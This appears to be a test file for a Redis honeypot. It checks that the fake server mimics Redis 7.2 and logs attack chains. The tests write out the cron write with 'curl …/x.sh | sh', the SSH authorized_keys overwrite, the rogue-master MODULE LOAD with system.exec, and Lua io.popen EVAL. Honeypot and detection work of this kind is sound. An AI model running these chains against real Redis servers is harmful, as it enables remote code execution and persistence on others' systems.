import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { createConnection, type Socket } from "node:net";
import { join } from "node:path";
import { type Pot, RawClient, Relay, removeDir, run, startPot } from "./harness";
import { flood, noise, rssKb } from "./hostile";

let relay: Relay;
let pot: Pot<"redis">;

beforeAll(async () => {
  relay = Relay.start();
  pot = await startPot("redis", { redis_port: "0" }, relay);
});

afterAll(async () => {
  if (pot.proc.exitCode === null) await pot.stop();
  relay.stop();
  removeDir(pot.dir);
});

const cli = (...args: string[]) => run(["redis-cli", "-p", String(pot.ports.redis), ...args]);
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

/** Every event of the session that sent `input`, once that session has closed, without the fields all share. */
async function sessionOf(input: string, port = pot.ports.redis): Promise<any[]> {
  const { session } = await relay.event("redis.command.input", { input, dst_port: port });
  await relay.event("redis.session.closed", { session });
  return relay.session(session).map(({ src_ip, src_port, dst_ip, dst_port, protocol, session: _s, timestamp, pot_id, pot_type, node_id: _n, ...rest }) => {
    expect({ src_ip, dst_ip, dst_port, protocol, pot_id, pot_type }).toEqual({ src_ip: "127.0.0.1", dst_ip: "127.0.0.1", dst_port: port, protocol: "redis", pot_id: "redis-test", pot_type: "redis" });
    expect([typeof src_port, typeof timestamp]).toEqual(["number", "string"]);
    return rest;
  });
}

const connect = { eventid: "redis.session.connect" };
const closed = { eventid: "redis.session.closed", duration: expect.any(Number) };
const input = (line: string, command: string, args: string[]) => ({ eventid: "redis.command.input", input: line, command, args });

describe("redis-cli against the pot", () => {
  test("PING: PONG, and the session from connect to closed", async () => {
    expect(await cli("PING")).toEqual({ code: 0, stdout: "PONG\n", stderr: "" });
    expect(await sessionOf("PING")).toEqual([connect, input("PING", "PING", []), closed]);
  });

  test("INFO server, CONFIG GET dir, SET/GET and KEYS * answer as Redis 7.2", async () => {
    const info = (await cli("INFO", "server")).stdout;
    // redis-cli prints INFO's text as Redis sends it, with \r\n.
    expect(info).toStartWith("# Server\r\nredis_version:7.2.4\r\nredis_git_sha1:00000000\r\n");
    expect(info).toContain("\r\nos:Linux 6.1.0-18-amd64 x86_64\r\narch_bits:64\r\n");
    expect(info).toContain(`\r\ntcp_port:${pot.ports.redis}\r\n`);
    expect(info).toMatch(/\r\nuptime_in_seconds:\d+\r\nuptime_in_days:\d+\r\n/);
    expect(info).not.toContain("# Clients");
    expect((await cli("CONFIG", "GET", "dir")).stdout).toBe("dir\n/var/lib/redis\n");
    expect((await cli("FLUSHALL")).stdout).toBe("OK\n");
    expect((await cli("SET", "greeting", "hello world")).stdout).toBe("OK\n");
    expect((await cli("GET", "greeting")).stdout).toBe("hello world\n");
    expect((await cli("--no-raw", "GET", "nothing")).stdout).toBe("(nil)\n");
    expect((await cli("KEYS", "*")).stdout).toBe("greeting\n");
    expect(await sessionOf('SET greeting "hello world"')).toEqual([connect, input('SET greeting "hello world"', "SET", ["greeting", "hello world"]), closed]);
  });

  test("the cron write chain, one redis-cli per step as the worm scripts run it", async () => {
    const cron = "\n* * * * * curl http://198.51.100.1/x.sh | sh\n";
    for (const step of [["FLUSHALL"], ["SET", "x", cron], ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["CONFIG", "SET", "dbfilename", "root"], ["SAVE"]]) {
      expect(await cli(...step)).toEqual({ code: 0, stdout: "OK\n", stderr: "" });
    }
    const shown = "\\x0a* * * * * curl http://198.51.100.1/x.sh | sh\\x0a";
    expect(await sessionOf(`SET x "${shown}"`)).toEqual([connect, input(`SET x "${shown}"`, "SET", ["x", shown]), closed]);
    const path = "/var/spool/cron/crontabs/root";
    const file = { shasum: sha256(cron), outfile: `outbox/${sha256(cron)}`, size: cron.length };
    expect(await sessionOf("SAVE")).toEqual([
      connect,
      input("SAVE", "SAVE", []),
      { eventid: "redis.attack.config_write", command: "SAVE", dir: "/var/spool/cron/crontabs", dbfilename: "root", path, keys: 1, values: [shown], ...file },
      { eventid: "redis.session.file_upload", filename: "root", url: path, destfile: path, ...file },
      closed,
    ]);
    // The values are kept as the artifact, byte for byte, with a sighting for the node.
    expect(readFileSync(join(pot.dir, file.outfile), "latin1")).toBe(cron);
    const sighting = readdirSync(join(pot.dir, "outbox")).find((f) => f.startsWith(`${file.shasum}.`) && f.endsWith(".json"))!;
    expect(JSON.parse(readFileSync(join(pot.dir, "outbox", sighting), "utf8"))).toMatchObject({ kind: "artifact", meta: { source: "redis.attack.config_write", url: path, filename: "root" } });
  });

  test("the SSH key chain in one connection (redis-cli reading stdin), with BGSAVE", async () => {
    const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker@example";
    const script = `flushall\nconfig set dir /root/.ssh\nconfig set dbfilename authorized_keys\nset k "\\n\\n${key}\\n\\n"\nbgsave\n`;
    expect((await run(["redis-cli", "-p", String(pot.ports.redis)], script)).stdout).toBe("OK\nOK\nOK\nOK\nBackground saving started\n");
    const events = await sessionOf("bgsave");
    // Reading commands from stdin, redis-cli first asks for the command docs, as with a terminal.
    expect(events.map((e) => e.input ?? e.eventid)).toEqual([
      "redis.session.connect",
      "COMMAND DOCS",
      "flushall",
      "config set dir /root/.ssh",
      "config set dbfilename authorized_keys",
      `set k "\\x0a\\x0a${key}\\x0a\\x0a"`,
      "bgsave",
      "redis.attack.config_write",
      "redis.session.file_upload",
      "redis.session.closed",
    ]);
    expect(events[7]).toEqual({
      eventid: "redis.attack.config_write",
      command: "BGSAVE",
      dir: "/root/.ssh",
      dbfilename: "authorized_keys",
      path: "/root/.ssh/authorized_keys",
      keys: 1,
      values: [`\\x0a\\x0a${key}\\x0a\\x0a`],
      shasum: sha256(`\n\n${key}\n\n`),
      outfile: `outbox/${sha256(`\n\n${key}\n\n`)}`,
      size: key.length + 4,
    });
  });

  test("the rogue master: SLAVEOF, MODULE LOAD of the file it would send, system.exec, and back", async () => {
    const script = "config set dir /tmp\nconfig set dbfilename exp.so\nslaveof 198.51.100.2 21000\ninfo replication\nmodule load /tmp/exp.so\nsystem.exec id\nslaveof no one\nconfig set dir /var/lib/redis\nconfig set dbfilename dump.rdb\n";
    const r = await run(["redis-cli", "-p", String(pot.ports.redis)], script);
    expect(r.stdout).toStartWith("OK\nOK\nOK\n# Replication\r\nrole:slave\r\nmaster_host:198.51.100.2\r\nmaster_port:21000\r\nmaster_link_status:down\r\n");
    expect(r.stdout).toEndWith(
      "ERR Error loading the extension. Please check the server logs.\n\nERR unknown command 'system.exec', with args beginning with: 'id' \n\nOK\nOK\nOK\n",
    );
    const events = await sessionOf("slaveof 198.51.100.2 21000");
    expect(events.filter((e) => e.eventid.startsWith("redis.attack."))).toEqual([
      { eventid: "redis.attack.rogue_master", command: "SLAVEOF", host: "198.51.100.2", port: 21000, dir: "/tmp", dbfilename: "exp.so", path: "/tmp/exp.so" },
      { eventid: "redis.attack.module_load", command: "MODULE LOAD", path: "/tmp/exp.so", args: [] },
    ]);
    expect(events.find((e) => e.command === "SYSTEM.EXEC")).toEqual(input("system.exec id", "SYSTEM.EXEC", ["id"]));
    expect((await cli("MODULE", "LOAD", "/tmp/exp.so", "a1")).stdout).toBe("ERR Error loading the extension. Please check the server logs.\n\n");
    expect(await relay.next((e) => e.eventid === "redis.attack.module_load" && e.args[0] === "a1")).toMatchObject({ path: "/tmp/exp.so", args: ["a1"] });
  });

  test("EVAL: recorded with its script, keys and args; never run", async () => {
    expect((await cli("EVAL", "return 1", "0")).stdout).toBe("1\n");
    expect(await sessionOf('EVAL "return 1" 0')).toEqual([
      connect,
      input('EVAL "return 1" 0', "EVAL", ["return 1", "0"]),
      { eventid: "redis.attack.eval", command: "EVAL", script: "return 1", sha1: "e0e1f9fabfc9d4800c877a703b823ac0578ff8db", numkeys: 0, keys: [], args: [] },
      closed,
    ]);
    const lua = 'local f = io.popen("id") return f:read("*a")';
    expect((await cli("--no-raw", "EVAL", lua, "1", "k1", "a1")).stdout).toBe("(nil)\n");
    expect(await relay.event("redis.attack.eval", { script: lua })).toMatchObject({ numkeys: 1, keys: ["k1"], args: ["a1"], sha1: createHash("sha1").update(lua).digest("hex") });
    expect((await cli("EVAL", "return 1", "2", "k")).stdout).toBe("ERR Number of keys can't be greater than number of args\n\n");
  });

  test("HELLO 3: redis-cli -3 gets RESP3 maps and nulls, on the wire too", async () => {
    expect((await cli("-3", "--no-raw", "CONFIG", "GET", "databases")).stdout).toBe('1# "databases" => "16"\n');
    expect((await cli("-3", "--no-raw", "GET", "nothing")).stdout).toBe("(nil)\n");
    expect((await sessionOf("CONFIG GET databases")).map((e) => e.input ?? e.eventid)).toEqual(["redis.session.connect", "HELLO 3", "CONFIG GET databases", "redis.session.closed"]);
    const raw = await RawClient.connect(pot.ports.redis);
    raw.send("HELLO 3\r\nGET nothing\r\nCLIENT SETNAME scanner\r\nCLIENT INFO\r\n");
    const text = await raw.waitFor("resp=3");
    expect(text).toStartWith("%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$5\r\n7.2.4\r\n$5\r\nproto\r\n:3\r\n$2\r\nid\r\n:");
    expect(text).toContain("$7\r\nmodules\r\n*0\r\n_\r\n+OK\r\n=");
    expect(text).toMatch(/\r\n=\d+\r\ntxt:id=\d+ addr=127\.0\.0\.1:\d+ laddr=127\.0\.0\.1:\d+ fd=\d+ name=scanner age=0 idle=0 flags=N db=0 /);
    raw.close();
    await raw.closed;
  });

  test("the inline form as nc sends it, and Redis's guard against HTTP", async () => {
    const nc = (text: string) => run(["nc", "-N", "127.0.0.1", String(pot.ports.redis)], text);
    expect((await nc("PING\r\nECHO hello\r\nGET / HTTP/1.0\r\n\r\n")).stdout).toBe("+PONG\r\n$5\r\nhello\r\n-ERR wrong number of arguments for 'get' command\r\n");
    expect((await nc("POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\n\r\nabc")).stdout).toBe("");
    expect(await sessionOf("POST / HTTP/1.1")).toEqual([connect, input("POST / HTTP/1.1", "POST", ["/", "HTTP/1.1"]), closed]);
  });

  test("a protocol error gets Redis's message, closes the connection and is recorded", async () => {
    const raw = await RawClient.connect(pot.ports.redis);
    raw.send("PING\r\n*2\r\n$3\r\nSET\r\n$999999\r\n");
    await raw.closed;
    expect(raw.text).toBe("+PONG\r\n-ERR Protocol error: invalid bulk length\r\n");
    const { session } = await relay.event("redis.protocol.error", { input: "*2\\x0d\\x0a$3\\x0d\\x0aSET\\x0d\\x0a$999999\\x0d\\x0a" });
    await relay.event("redis.session.closed", { session });
    expect(relay.session(session).map((e) => e.eventid)).toEqual(["redis.session.connect", "redis.command.input", "redis.protocol.error", "redis.session.closed"]);
    expect(relay.session(session)[2]).toMatchObject({ error: "Protocol error: invalid bulk length" });
  });
});

describe("a pot with a password", () => {
  test("redis-cli -a: logins recorded; without it NOAUTH", async () => {
    const locked = await startPot("redis", { redis_port: "0", password: "pass" }, relay);
    try {
      const port = String(locked.ports.redis);
      expect(await run(["redis-cli", "-p", port, "--no-auth-warning", "-a", "pass", "PING"])).toEqual({ code: 0, stdout: "PONG\n", stderr: "" });
      expect(await sessionOf("PING", locked.ports.redis)).toEqual([
        connect,
        input("AUTH pass", "AUTH", ["pass"]),
        { eventid: "redis.login.success", username: "default", password: "pass" },
        input("PING", "PING", []),
        closed,
      ]);

      const wrong = await run(["redis-cli", "-p", port, "--no-auth-warning", "-a", "hunter2", "GET", "k"]);
      expect(wrong.stderr).toBe("AUTH failed: WRONGPASS invalid username-password pair or user is disabled.\n");
      expect(wrong.stdout).toBe("NOAUTH Authentication required.\n\n");
      expect(await relay.event("redis.login.failed", { password: "hunter2" })).toMatchObject({ username: "default", dst_port: locked.ports.redis });

      await run(["redis-cli", "-p", port, "--no-auth-warning", "--user", "admin", "--pass", "admin123", "PING"]);
      expect(await relay.event("redis.login.failed", { password: "admin123" })).toMatchObject({ username: "admin" });
      // redis-cli adds an empty line after an error, except after INFO's, as with a real Redis.
      expect((await run(["redis-cli", "-p", port, "INFO"])).stdout).toBe("NOAUTH Authentication required.\n");
    } finally {
      await locked.stop();
      removeDir(locked.dir);
    }
  });
});

describe("nmap", () => {
  test("nmap -sV names it Redis key-value store, and with its redis-info script the version", async () => {
    // On a port other than 6379 nmap's own Redis probe (rarity 8, port 6379) is not sent: its
    // GET / probe matches Redis's answer and names the product without a version, as it does for
    // a real redis-server there. nmap's redis-info script, run for a service -sV named redis,
    // asks INFO and sets the version.
    const port = String(pot.ports.redis);
    const [plain, script] = await Promise.all([
      run(["nmap", "-sV", "-Pn", "-p", port, "127.0.0.1"]),
      run(["nmap", "-sV", "-Pn", "--script", "redis-info", "-p", port, "127.0.0.1"]),
    ]);
    expect(plain.stdout).toContain(`${port}/tcp open  redis   Redis key-value store\n`);
    expect(script.stdout).toContain(`${port}/tcp open  redis   Redis key-value store 7.2.4 (64 bits)\n`);
    expect(script.stdout).toContain("|   Operating System: Linux 6.1.0-18-amd64 x86_64\n");
    expect(`${plain.stdout}${script.stdout}`).not.toContain("fingerprint");
  }, 120_000);
});

/** A raw connection that reads what the pot sends; `seen(text)` resolves once the pot has sent that text. */
function open(port: number): Promise<Socket & { seen(text: string): Promise<void> }> {
  return new Promise((resolve) => {
    const waiters: Array<{ text: string; resolve: () => void }> = [];
    // Enough of the stream to find a reply that straddles two reads.
    let tail = "";
    const socket = Object.assign(createConnection({ host: "127.0.0.1", port }, () => resolve(socket)), {
      seen: (text: string) => new Promise<void>((done) => waiters.push({ text, resolve: done })),
    });
    socket.on("error", () => {});
    socket.on("data", (chunk: Buffer) => {
      tail = (tail + chunk.toString("latin1")).slice(-4096);
      for (const w of waiters.splice(0)) {
        if (tail.includes(w.text)) w.resolve();
        else waiters.push(w);
      }
    });
  });
}

const whenClosed = (socket: Socket) => new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.once("close", () => resolve())));

/** Resolves once `count` of the sockets have been closed. */
function closedCount(sockets: Socket[], count: number): Promise<void> {
  let n = 0;
  const { promise, resolve } = Promise.withResolvers<void>();
  for (const socket of sockets) void whenClosed(socket).then(() => ++n === count && resolve());
  return promise;
}

describe("hostile input", () => {
  test("garbage, oversized frames, floods and too many connections: the pot stays up and small, and real clients are recorded", async () => {
    const hostileRelay = Relay.start();
    const hostile = await startPot("redis", { redis_port: "0", max_connections: "16", max_commands: "5000", store_max_bytes: "262144" }, hostileRelay);
    const port = hostile.ports.redis;
    const sockets: Socket[] = [];
    const track = async <T extends Socket>(p: Promise<T>) => {
      const socket = await p;
      sockets.push(socket);
      return socket;
    };
    try {
      const good = await RawClient.connect(port);
      good.send("PING\r\n");
      await good.waitFor("+PONG\r\n");

      const garbage = await track(open(port));
      const endless = await track(open(port));
      const pipelined = await track(open(port));
      const storeFill = await track(open(port));
      const oom = storeFill.seen("-OOM command not allowed when used memory > 'maxmemory'.\r\n");
      const stalled = await track(open(port));
      // A client that sends many INFOs and never reads: the pot stops reading it once its replies back up.
      stalled.pause();
      stalled.write("INFO\r\n".repeat(5000));
      const oversized = await track(open(port));
      oversized.write("*2\r\n$3\r\nGET\r\n$600000\r\n");
      const tooMany = await track(open(port));
      tooMany.write("*100000\r\n");

      const floods = Promise.all([
        flood(garbage, noise(64 * 1024, 7), 8 * 1024 * 1024),
        flood(endless, Buffer.alloc(64 * 1024, "A"), 8 * 1024 * 1024),
        flood(pipelined, Buffer.from("*3\r\n$3\r\nSET\r\n$3\r\nkey\r\n$5\r\nvalue\r\n".repeat(1000)), 4 * 1024 * 1024),
        flood(storeFill, Buffer.from(Array.from({ length: 80 }, (_, i) => `SET k${i} ${"v".repeat(4000)}\r\n`).join("")), 2 * 1024 * 1024),
      ]);
      // More connections than max_connections while the floods go on.
      const swarm = await Promise.all(Array.from({ length: 40 }, () => track(open(port))));
      // The well-behaved client, during all of it, on its own connection.
      good.send("CONFIG SET dir /var/spool/cron/crontabs\r\nECHO during\r\nCONFIG GET dir\r\nQUIT\r\n");
      await good.closed;
      expect(good.text).toBe("+PONG\r\n+OK\r\n$6\r\nduring\r\n*2\r\n$3\r\ndir\r\n$24\r\n/var/spool/cron/crontabs\r\n+OK\r\n");
      await floods;

      await Promise.all([garbage, endless, pipelined, oversized, tooMany].map(whenClosed));
      expect(await hostileRelay.event("redis.protocol.error", { error: "Protocol error: too big inline request" })).toBeDefined();
      expect(await hostileRelay.event("redis.protocol.error", { error: "Protocol error: invalid bulk length" })).toBeDefined();
      expect(await hostileRelay.event("redis.protocol.error", { error: "Protocol error: invalid multibulk length" })).toBeDefined();
      expect(await hostileRelay.event("redis.session.limit", { limit: "max_commands" })).toMatchObject({ max: 5000 });
      // The store is bounded: past 256 KB the SETs answer as a Redis at its maxmemory.
      await oom;
      // The client that never reads has had hundreds of INFOs answered (MBs waiting for it).
      const { session: stalledSession } = await hostileRelay.event("redis.command.input", { input: "INFO" });
      await hostileRelay.next((e) => e.session === stalledSession && hostileRelay.session(stalledSession).length >= 300);
      // At most 16 connections at once: most of the swarm was closed as soon as it connected.
      await closedCount(swarm, 24);

      const rss = rssKb(hostile.proc.pid);
      console.log(`redis pot VmRSS after the floods: ${rss} kB`);
      expect(rss).toBeLessThan(150 * 1024);
      expect(hostile.proc.exitCode).toBeNull();

      const during = await hostileRelay.event("redis.command.input", { input: "ECHO during" });
      await hostileRelay.event("redis.session.closed", { session: during.session });
      expect(hostileRelay.session(during.session).map((e) => e.input ?? e.eventid)).toEqual([
        "redis.session.connect",
        "PING",
        "CONFIG SET dir /var/spool/cron/crontabs",
        "ECHO during",
        "CONFIG GET dir",
        "QUIT",
        "redis.session.closed",
      ]);

      for (const socket of sockets) socket.destroy();
      await Promise.all(sockets.map(whenClosed));
      const after = await run(["redis-cli", "-p", String(port), "ECHO", "after"]);
      expect(after.stdout).toBe("after\n");
      const { session } = await hostileRelay.event("redis.command.input", { input: "ECHO after" });
      await hostileRelay.event("redis.session.closed", { session });
      expect(hostileRelay.session(session).map((e) => e.eventid)).toEqual(["redis.session.connect", "redis.command.input", "redis.session.closed"]);
    } finally {
      for (const socket of sockets) socket.destroy();
      await hostile.stop();
      hostileRelay.stop();
      removeDir(hostile.dir);
    }
  }, 120_000);
});

describe("shutdown", () => {
  test("SIGTERM exits 0 and every event is both on the relay and in log/redis.json", async () => {
    expect(await pot.stop()).toBe(0);
    const mine = relay.lines.filter((line) => JSON.parse(line).dst_port === pot.ports.redis);
    expect(mine.length).toBeGreaterThan(50);
    expect(mine).toEqual(pot.fileLines());
  });
});
